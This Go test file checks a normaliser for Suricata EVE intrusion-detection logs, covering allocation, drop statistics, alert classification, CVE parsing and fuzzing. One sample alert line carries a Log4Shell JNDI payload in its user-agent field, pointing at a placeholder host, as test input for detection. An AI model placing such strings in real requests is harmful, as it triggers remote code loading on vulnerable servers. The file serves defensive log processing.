// SPDX-License-Identifier: Apache-2.0

package eve

import (
	"bytes"
	"testing"
	"time"

	"haidang/event"
	"haidang/mutant"
	"haidang/normalise"
)

// lines gives lines of our own in the shapes that occur most.
func lines() [][]byte {
	return [][]byte{
		[]byte(`{"timestamp":"2026-11-21T03:15:30.123456+0000","flow_id":161124264677210,"in_iface":"eth0","event_type":"alert","src_ip":"203.0.113.7","src_port":59069,"dest_ip":"192.0.2.10","dest_port":443,"proto":"TCP","pkt_src":"wire/pcap","metadata":{"flowbits":["a"]},"community_id":"1:LQU9qZlK+B5F3KDmev6m5PMibrg=","alert":{"action":"allowed","gid":1,"signature_id":2034647,"rev":2,"signature":"ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)","category":"Attempted Administrator Privilege Gain","severity":1,"metadata":{"affected_product":["Web_Server_Applications"],"attack_target":["Server"],"cve":["CVE_2021_44228"],"created_at":["2021_12_10"],"deployment":["Perimeter"],"mitre_technique_id":["T1190"],"signature_severity":["Major"],"updated_at":["2021_12_12"]}},"http":{"hostname":"www.example.vn","url":"/?x=1","http_user_agent":"${jndi:ldap://203.0.113.7/a}","http_method":"GET","protocol":"HTTP/1.1","status":200,"length":0},"app_proto":"http","direction":"to_server","flow":{"pkts_toserver":4,"pkts_toclient":3,"bytes_toserver":500,"bytes_toclient":300,"start":"2026-11-21T03:15:29.000000+0000","src_ip":"203.0.113.7","dest_ip":"192.0.2.10","src_port":59069,"dest_port":443}}`),
		[]byte(`{"timestamp":"2026-11-21T03:15:31.123456+0000","flow_id":96377081366805,"in_iface":"eth0","event_type":"flow","src_ip":"192.0.2.50","src_port":54034,"dest_ip":"198.51.100.9","dest_port":21,"proto":"TCP","app_proto":"ftp","flow":{"pkts_toserver":11,"pkts_toclient":9,"bytes_toserver":763,"bytes_toclient":739,"start":"2026-11-21T03:15:20.093323+0000","end":"2026-11-21T03:15:30.391494+0000","age":10,"state":"closed","reason":"timeout","alerted":false},"community_id":"1:LQU9qZlK+B5F3KDmev6m5PMibrg=","tcp":{"tcp_flags":"1b","tcp_flags_ts":"1b","tcp_flags_tc":"1b","syn":true,"fin":true,"psh":true,"ack":true,"state":"closed"}}`),
		[]byte(`{"timestamp":"2026-11-21T03:15:32.123456+0000","flow_id":829694118708,"event_type":"dns","src_ip":"2001:db8:1::5","src_port":43927,"dest_ip":"2001:db8:1::53","dest_port":53,"proto":"UDP","community_id":"1:LQU9qZlK+B5F3KDmev6m5PMibrg=","dns":{"version":2,"type":"query","id":42996,"rrname":"upload.example.org","rrtype":"AAAA","tx_id":0,"opcode":0}}`),
		[]byte(`{"timestamp":"2026-11-21T03:15:33.123456+0000","flow_id":198916977279,"event_type":"http","src_ip":"192.0.2.50","src_port":53063,"dest_ip":"198.51.100.9","dest_port":80,"proto":"TCP","community_id":"1:LQU9qZlK+B5F3KDmev6m5PMibrg=","tx_id":0,"http":{"hostname":"www.example.org","url":"/a/b.js","http_user_agent":"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0","http_content_type":"application/x-javascript","http_method":"GET","protocol":"HTTP/1.1","status":200,"length":49}}`),
	}
}

func testContext(t testing.TB) *normalise.Context {
	t.Helper()
	c, err := normalise.NewContext(event.Sensor{Name: "s", Home: []string{"192.0.2.0/24"}})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestMapDoesNotAllocate(t *testing.T) {
	m, c := New().NewMapper(), testContext(t)
	var e event.Event
	for _, line := range lines() {
		if n := testing.AllocsPerRun(100, func() {
			e.Reset()
			if err := m.Map(line, c, &e); err != nil {
				t.Fatal(err)
			}
		}); n > 0 {
			t.Errorf("%v allocations for %.90s", n, line)
		}
	}
}

func TestStatsTellsKernelDrops(t *testing.T) {
	n := normalise.New(normalise.Config{IDKey: []byte("k")}, New())
	send := func(sensor, line string) {
		t.Helper()
		var b event.Batch
		c := &event.Chunk{Delivery: event.Delivery{Sensor: sensor, Format: "eve"}, Data: []byte(line), Ingested: event.TimeOf(corpusNow)}
		if r := n.Chunk(c, event.Sensor{Name: sensor}, &b, nil); len(r) > 0 || b.Kind[0] != event.KindMetric {
			t.Fatalf("%v", r)
		}
	}
	send("a", `{"timestamp":"2026-11-21T03:00:10Z","event_type":"stats","stats":{"uptime":20,"capture":{"kernel_drops":7}}}`)
	send("a", `{"timestamp":"2026-11-21T03:00:00Z","event_type":"stats","stats":{"uptime":10,"capture":{"kernel_drops":3}}}`) // came late
	send("b", `{"timestamp":"2026-11-21T03:00:00Z","event_type":"stats","stats":{"uptime":10,"capture":{"kernel_drops":0}}}`)
	send("c", `{"timestamp":"2026-11-21T03:00:00Z","event_type":"stats","stats":{"uptime":10}}`)
	got := n.TakeDrops()
	if len(got) != 2 || got["a"] != 7 || got["b"] != 0 {
		t.Errorf("%v", got)
	}
	if got := n.TakeDrops(); len(got) != 0 {
		t.Errorf("told twice: %v", got)
	}
}

func TestEveryClassIsDecided(t *testing.T) {
	for _, c := range classtypes {
		if c.name == "" || c.text == "" || c.class.stage == event.StageUnset {
			t.Errorf("%+v", c)
		}
		if c.class.stage != event.StageContext && (c.class.rsit == event.RSITUnset || c.class.way == event.WayUnset) {
			t.Errorf("%s: no type or no way", c.name)
		}
		if c.class.stage == event.StageContext && c.class.target != atNobody {
			t.Errorf("%s: context that affects somebody", c.name)
		}
		for _, name := range []string{c.name, c.text} {
			if got := classify(name, ""); got != *c.class {
				t.Errorf("%s is not found", name)
			}
		}
	}
	if len(classOf) != 2*len(classtypes) {
		t.Errorf("a class is there twice: %d names of %d", len(classOf), len(classtypes))
	}
}

func TestCVEs(t *testing.T) {
	for in, want := range map[string]string{
		"ET EXPLOIT x (CVE-2021-44228)": "CVE-2021-44228", "cve_2017_0144": "CVE-2017-0144", "CVE 2019-0708 and CVE-2019-1182": "CVE-2019-0708 CVE-2019-1182",
		"CVE-2021-1": "", "CVE-20211-4422": "", "vve-2021-44228": "", "CVE-2021-44228 CVE-2021-44228": "CVE-2021-44228", "cv": "", "v": "", "CVE-": "",
		"CVE-2021-12345678": "",
	} {
		var m mapper
		got := ""
		for i, c := range m.cves(nil, in, false) {
			if i > 0 {
				got += " "
			}
			got += c
		}
		if got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

// FuzzMap: no input may panic, map differently the second time, or leave a
// batch and its rejects with other than one record a line.
func FuzzMap(fuzz *testing.F) {
	f := mutant.Of(fuzz)
	for _, l := range lines() {
		f.Add(l)
	}
	f.Add([]byte(`{"message":"{\"event_type\":\"x\",\"timestamp\":\"2026-11-21T03:15:33Z\"}","agent":1}`))
	f.Add([]byte("{\"timestamp\":\"2026-11-21T03:15:33Z\",\"event_type\":\"alert\",\"alert\":{\"metadata\":{\"cve\":\"2021-44228\",\"attack_target\":\"Client\"}}}\n\n{}\r\n"))
	n := normalise.New(normalise.Config{IDKey: []byte("fuzz"), Now: func() time.Time { return corpusNow }}, New())
	f.Fuzz(func(t *testing.T, data []byte) {
		c := &event.Chunk{Delivery: event.Delivery{Sensor: "s", Format: "eve"}, Data: data, Ingested: event.TimeOf(corpusNow)}
		var a, b event.Batch
		s := event.Sensor{Name: "s", Home: []string{"10.0.0.0/8"}}
		first := n.Chunk(c, s, &a, nil)
		second := n.Chunk(c, s, &b, nil)
		if len(first) != len(second) || a.Rows() != b.Rows() {
			t.Fatal("another outcome the second time")
		}
		var x, y event.Event
		for row := range a.Rows() {
			x.Reset()
			y.Reset()
			a.Row(row, &x)
			b.Row(row, &y)
			if x.ID != y.ID || x.Hash != y.Hash || x.URL != y.URL || !bytes.Equal(x.Residual, y.Residual) || x.Affected != y.Affected {
				t.Fatal("mapped differently the second time")
			}
		}
		records := 0
		for _, l := range bytes.Split(data, []byte("\n")) {
			if len(bytes.TrimSuffix(l, []byte("\r"))) > 0 {
				records++
			}
		}
		if a.Rows()+len(first) != records {
			t.Fatalf("%d events and %d rejects of %d records", a.Rows(), len(first), records)
		}
	})
}
